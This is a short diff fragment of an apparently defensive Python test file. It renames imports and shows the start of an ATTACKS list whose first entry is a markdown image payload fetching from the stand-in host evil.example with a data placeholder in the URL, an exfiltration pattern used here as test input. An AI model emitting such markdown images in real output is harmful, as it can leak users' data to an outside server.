@@ -6,9 +6,9 @@ from pathlib import Path
 
 import openpyxl
 
-from cwac.sheet.tabs import TABS
-from tests.ui import plan
-from tests.ui.plan import Rows
+from cwac.sheet.schema import TABS
+from tests.web import plan
+from tests.web.plan import Rows
 
 ATTACKS = [
     "![{m}](http://evil.example/{m}.png)",
